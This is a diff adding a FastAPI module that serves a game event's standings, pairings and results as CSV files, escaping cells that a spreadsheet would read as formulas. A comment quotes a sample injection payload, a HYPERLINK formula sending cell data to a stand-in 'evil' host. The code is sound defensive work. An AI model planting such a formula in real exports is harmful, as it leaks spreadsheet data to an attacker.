@@ -1,0 +1,80 @@
+"""The event's exports: standings, pairings and results as CSV, safe to open in a
+spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+from dataclasses import asdict
+from typing import Any
+
+from fastapi import APIRouter
+from fastapi.responses import Response
+
+from app.api.events import EventsDep
+from app.domain.standings import record_sheet
+
+router = APIRouter(prefix="/api/events")
+
+
+#: A spreadsheet reads a cell that starts with one of these as a formula (or, for tab
+#: and line breaks, as the start of one): `=HYPERLINK("http://evil/?"&A1,"click")`.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def csv_cell(value: Any) -> Any:
+    """Text that a spreadsheet would run as a formula gets a leading single quote (the
+    OWASP way: shown as typed, never evaluated). Numbers the server wrote stay numbers."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def _csv(rows: list[dict[str, Any]], filename: str) -> Response:
+    """Every CSV export goes through here: each text cell through `csv_cell`."""
+    out = io.StringIO()
+    if rows:
+        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows({key: csv_cell(value) for key, value in row.items()} for row in rows)
+    return Response(
+        out.getvalue(),
+        media_type="text/csv",
+        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
+    )
+
+
+@router.get("/{event_id}/standings.csv")
+async def standings_csv(event_id: str, service: EventsDep) -> Response:
+    order = service.standings_words(event_id)  # ST2: the variant the event is ranked by
+    rows = [asdict(s) | {"standings": order} for s in service.standings(event_id)]
+    return _csv(rows, f"standings-{event_id}.csv")
+
+
+@router.get("/{event_id}/pairings.csv")
+async def pairings_csv(event_id: str, service: EventsDep) -> Response:
+    view = service.read_models.event_view(event_id)
+    rows = [
+        {
+            "round": r["number"],
+            "scenario": r["scenario"]["name"],
+            "table": p["table"] or "bye",
+            "p1": p["p1"]["name"],
+            "p2": p["p2"]["name"] if p["p2"] else "Bye",
+        }
+        for r in view["rounds"]
+        if r["announced"]  # RP4: a round's pairings are public once it starts
+        for p in r["pairings"]
+    ]
+    return _csv(rows, f"pairings-{event_id}.csv")
+
+
+@router.get("/{event_id}/results.csv")
+async def results_csv(event_id: str, service: EventsDep) -> Response:
+    records = service.player_records(event_id)
+    rows = [
+        {"player": p.name, "faction": p.faction, **row}
+        for p in records
+        for row in record_sheet(p, records, service.tie_word(event_id))
+    ]
+    return _csv(rows, f"results-{event_id}.csv")
